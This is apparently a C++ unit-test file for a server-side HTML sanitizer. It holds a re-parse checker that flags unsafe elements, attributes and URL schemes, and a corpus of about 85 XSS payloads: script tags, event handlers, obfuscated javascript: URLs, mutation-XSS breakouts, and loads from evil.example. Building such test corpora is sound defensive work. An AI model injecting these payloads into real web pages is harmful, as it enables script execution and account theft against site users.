// The shared XSS corpus and the re-parse judge (see XssCorpus.h).
#include "tests/unit/server/XssCorpus.h"

#include "server/sanitize/UrlFilter.h"

#include <QSet>

#include <gumbo.h>

using namespace Qt::StringLiterals;
using pd::server::UrlFilter;

namespace pd::test {

namespace {

const QSet<QByteArray> kAllowedElements = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "div", "ul", "ol", "li", "dl", "dt", "dd", "table", "caption",
    "thead", "tbody", "tfoot", "tr", "th", "td", "a", "img", "figure", "figcaption", "strong", "em", "b", "i",
    "u", "sub", "sup", "br", "hr", "blockquote", "span", "pre", "code"};
const QSet<QByteArray> kAllowedAttributes = {"class", "title", "lang", "dir", "align", "href", "target", "rel",
                                             "src", "alt", "width", "height", "colspan", "rowspan", "scope",
                                             "start", "type", "reversed", "value", "cite"};

/// Walks the re-parsed output and records every construct that could run script or load foreign content.
void collectProblems(const GumboNode *node, QStringList &problems)
{
    if (node->type == GUMBO_NODE_COMMENT)
        problems << u"comment survived"_s;
    if (node->type == GUMBO_NODE_TEMPLATE)
        problems << u"template survived"_s;
    if (node->type != GUMBO_NODE_ELEMENT)
        return;
    const GumboElement &e = node->v.element;
    const QByteArray tag = e.tag == GUMBO_TAG_UNKNOWN ? QByteArray(e.original_tag.data, qsizetype(e.original_tag.length))
                                                      : QByteArray(gumbo_normalized_tagname(e.tag));
    if (e.tag_namespace != GUMBO_NAMESPACE_HTML)
        problems << u"foreign element %1"_s.arg(QString::fromUtf8(tag));
    if (!kAllowedElements.contains(tag))
        problems << u"element <%1>"_s.arg(QString::fromUtf8(tag));
    for (unsigned i = 0; i < e.attributes.length; ++i) {
        const auto *a = static_cast<const GumboAttribute *>(e.attributes.data[i]);
        const QByteArray name = QByteArray(a->name).toLower();
        const QString value = QString::fromUtf8(a->value);
        if (!kAllowedAttributes.contains(name) || name.startsWith("on"))
            problems << u"attribute %1 on <%2>"_s.arg(QString::fromUtf8(name), QString::fromUtf8(tag));
        if (name == "href" || name == "cite" || name == "src") {
            const QString scheme = UrlFilter::scheme(UrlFilter::browserNormalised(value));
            if (!scheme.isEmpty() && scheme != u"http"_s && scheme != u"https"_s && scheme != u"mailto"_s)
                problems << u"%1 with scheme %2"_s.arg(QString::fromUtf8(name), scheme);
        }
        if (name == "src" && !value.startsWith(u"/media/"_s))
            problems << u"image from outside the site's media: %1"_s.arg(value);
    }
    for (unsigned i = 0; i < e.children.length; ++i)
        collectProblems(static_cast<const GumboNode *>(e.children.data[i]), problems);
}

} // namespace

QStringList unsafeConstructs(const QString &html)
{
    const QByteArray utf8 = html.toUtf8();
    GumboOptions options = kGumboDefaultOptions;
    options.fragment_context = GUMBO_TAG_BODY;
    options.fragment_namespace = GUMBO_NAMESPACE_HTML;
    GumboOutput *out = gumbo_parse_with_options(&options, utf8.constData(), size_t(utf8.size()));
    QStringList problems;
    const GumboVector &top = out->root->v.element.children;
    for (unsigned i = 0; i < top.length; ++i)
        collectProblems(static_cast<const GumboNode *>(top.data[i]), problems);
    gumbo_destroy_output(&options, out);
    // Belt and braces on the raw text, independent of how gumbo reads it.
    const QString lower = html.toLower();
    for (const QString &needle : {u"<script"_s, u"<iframe"_s, u"<svg"_s, u"<math"_s, u"<object"_s, u"<embed"_s,
                                  u"<style"_s, u"<form"_s, u"<base"_s, u"<meta"_s, u"<link"_s, u"<template"_s,
                                  u"<noscript"_s, u"<!--"_s, u"javascript:"_s, u"vbscript:"_s, u"data:"_s}) {
        if (lower.contains(needle))
            problems << u"raw text contains %1"_s.arg(needle);
    }
    return problems;
}


QList<XssVector> xssVectors()
{
    return {
        {u"script"_s, u"<script>alert(1)</script><p>ok</p>"_s},
        {u"script-src"_s, u"<script src=\"http://evil.example/x.js\"></script>"_s},
        {u"script-uppercase"_s, u"<SCRIPT>alert('XSS')</SCRIPT>"_s},
        {u"script-unclosed"_s, u"<script>alert(1)"_s},
        {u"script-split"_s, u"<scr<script>ipt>alert(1)</scr</script>ipt>"_s},
        {u"img-onerror"_s, u"<img src=x onerror=alert(1)>"_s},
        {u"img-onerror-media"_s, u"<img src=\"/media/1/a.png\" onerror=\"alert(1)\" alt=\"a\">"_s},
        {u"img-javascript-src"_s, u"<img src=\"javascript:alert('XSS');\">"_s},
        {u"img-no-quotes-backtick"_s, u"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"_s},
        {u"img-dynsrc"_s, u"<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">"_s},
        {u"img-srcset"_s, u"<img src=\"/media/1/a.png\" srcset=\"javascript:alert(1) 2x\">"_s},
        {u"svg-onload"_s, u"<svg onload=alert(1)><circle r=1></circle></svg>"_s},
        {u"svg-script"_s, u"<svg><script>alert(1)</script></svg>"_s},
        {u"svg-animate-href"_s, u"<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>"_s},
        {u"svg-use-data"_s, u"<svg><use href=\"data:image/svg+xml;base64,PHN2Zy8+#x\"/></svg>"_s},
        {u"math-href"_s, u"<math><mtext><a href=\"javascript:alert(1)\">x</a></mtext></math>"_s},
        {u"math-mglyph-style"_s, u"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"_s},
        {u"a-javascript"_s, u"<a href=\"javascript:alert(1)\">click</a>"_s},
        {u"a-javascript-mixed-case"_s, u"<a href=\"jAvAsCrIpT:alert(1)\">click</a>"_s},
        {u"a-javascript-entities-dec"_s, u"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>"_s},
        {u"a-javascript-entities-hex"_s, u"<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>"_s},
        {u"a-javascript-entities-padded"_s, u"<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>"_s},
        {u"a-javascript-tab"_s, u"<a href=\"jav\tascript:alert(1)\">x</a>"_s},
        {u"a-javascript-encoded-tab"_s, u"<a href=\"jav&#x09;ascript:alert(1)\">x</a>"_s},
        {u"a-javascript-newline"_s, u"<a href=\"jav&#x0A;ascript:alert(1)\">x</a>"_s},
        {u"a-javascript-cr"_s, u"<a href=\"jav&#x0D;ascript:alert(1)\">x</a>"_s},
        {u"a-javascript-leading-space"_s, u"<a href=\" &#14;  javascript:alert(1)\">x</a>"_s},
        {u"a-javascript-colon-entity"_s, u"<a href=\"javascript&colon;alert(1)\">x</a>"_s},
        {u"a-vbscript"_s, u"<a href=\"vbscript:msgbox(1)\">x</a>"_s},
        {u"a-data-html"_s, u"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"_s},
        {u"a-onmouseover"_s, u"<a href=\"/ok\" onmouseover=\"alert(1)\">x</a>"_s},
        {u"iframe-src"_s, u"<iframe src=\"javascript:alert(1)\"></iframe>"_s},
        {u"iframe-srcdoc"_s, u"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"_s},
        {u"frameset"_s, u"<frameset><frame src=\"javascript:alert(1)\"></frameset>"_s},
        {u"style-import"_s, u"<style>@import 'http://evil.example/xss.css';</style><p>x</p>"_s},
        {u"style-attribute-expression"_s, u"<p style=\"width: expression(alert(1))\">x</p>"_s},
        {u"style-attribute-url"_s, u"<div style=\"background-image: url(javascript:alert(1))\">x</div>"_s},
        {u"link-stylesheet"_s, u"<link rel=\"stylesheet\" href=\"javascript:alert(1)\">"_s},
        {u"meta-refresh"_s, u"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1);\">"_s},
        {u"base-href"_s, u"<base href=\"javascript:alert(1)//\"><a href=\"/x\">x</a>"_s},
        {u"form-action"_s, u"<form action=\"javascript:alert(1)\"><input type=submit></form>"_s},
        {u"button-formaction"_s, u"<button formaction=\"javascript:alert(1)\">x</button>"_s},
        {u"input-autofocus"_s, u"<input onfocus=alert(1) autofocus>"_s},
        {u"object-data"_s, u"<object data=\"javascript:alert(1)\"></object>"_s},
        {u"object-param"_s, u"<object type=\"application/x-shockwave-flash\"><param name=\"src\" value=\"x.swf\"></object>"_s},
        {u"embed"_s, u"<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"_s},
        {u"body-onload"_s, u"<body onload=alert(1)><p>x</p></body>"_s},
        {u"details-ontoggle"_s, u"<details open ontoggle=alert(1)><summary>s</summary></details>"_s},
        {u"marquee-onstart"_s, u"<marquee onstart=alert(1)>x</marquee>"_s},
        {u"video-source-onerror"_s, u"<video><source onerror=\"alert(1)\"></video>"_s},
        {u"audio-src"_s, u"<audio src=x onerror=alert(1)>"_s},
        {u"table-background"_s, u"<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>"_s},
        {u"td-background"_s, u"<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>"_s},
        {u"noscript-mxss"_s, u"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"_s},
        {u"template"_s, u"<template><script>alert(1)</script></template><p>t</p>"_s},
        {u"comment-conditional"_s, u"<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>x</p>"_s},
        {u"comment-breakout"_s, u"<!--><img src=x onerror=alert(1)>-->"_s},
        {u"cdata"_s, u"<![CDATA[<script>alert(1)</script>]]><p>x</p>"_s},
        {u"xmp-breakout"_s, u"<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>"_s},
        {u"textarea-breakout"_s, u"<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"_s},
        {u"title-breakout"_s, u"<title><img src=x onerror=alert(1)></title>"_s},
        {u"plaintext"_s, u"<plaintext><script>alert(1)</script>"_s},
        {u"nested-a-mxss"_s, u"<a href=\"/a\"><a href=\"javascript:alert(1)\">x</a></a>"_s},
        {u"table-foster-mxss"_s, u"<table><tr><td>a</td></tr><img src=x onerror=alert(1)><script>alert(1)</script></table>"_s},
        {u"form-in-table-mxss"_s, u"<table><form><tr><td><input onfocus=alert(1)></td></tr></form></table>"_s},
        {u"svg-style-mxss"_s, u"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"_s},
        {u"select-mxss"_s, u"<select><template><style><!--</style><a rel=\"--></style><img src=x onerror=alert(1)>\"></a></template></select>"_s},
        {u"unclosed-img"_s, u"<img src=\"x\" onerror=\"alert(1)\""_s},
        {u"unclosed-attr"_s, u"<p title=\"<script>alert(1)</script>"_s},
        {u"extraneous-open-bracket"_s, u"<<script>alert(\"XSS\");//<</script>"_s},
        {u"half-open-iframe"_s, u"<iframe src=http://evil.example/scriptlet.html <"_s},
        {u"null-byte-script"_s, u"<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x o\u0000nerror=alert(1)>"_s},
        {u"attribute-breakout"_s, u"<p title=\"a\" onclick=\"alert(1)\" \"x\">p</p>"_s},
        {u"quote-breakout"_s, u"<span class='lead\" onclick=\"alert(1)'>x</span>"_s},
        {u"custom-element-event"_s, u"<x-foo onclick=alert(1) href=javascript:alert(1)>x</x-foo>"_s},
        {u"word-namespaced"_s, u"<o:p onclick=alert(1)></o:p><v:shape><v:imagedata src=\"javascript:alert(1)\"/></v:shape>"_s},
        {u"blockquote-cite"_s, u"<blockquote cite=\"javascript:alert(1)\">q</blockquote>"_s},
        {u"image-tag"_s, u"<image src=x onerror=alert(1)>"_s},
        {u"isindex"_s, u"<isindex type=image src=1 onerror=alert(1)>"_s},
        {u"id-clobbering"_s, u"<p id=\"location\" name=\"cookie\">x</p>"_s},
        {u"protocol-relative-img"_s, u"<img src=\"//evil.example/x.png\">"_s},
        {u"media-traversal-img"_s, u"<img src=\"/media/../admin/x.png\"><img src=\"/media/%2e%2e/x.png\">"_s},
        {u"data-img"_s, u"<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"_s},
    };
}

} // namespace pd::test
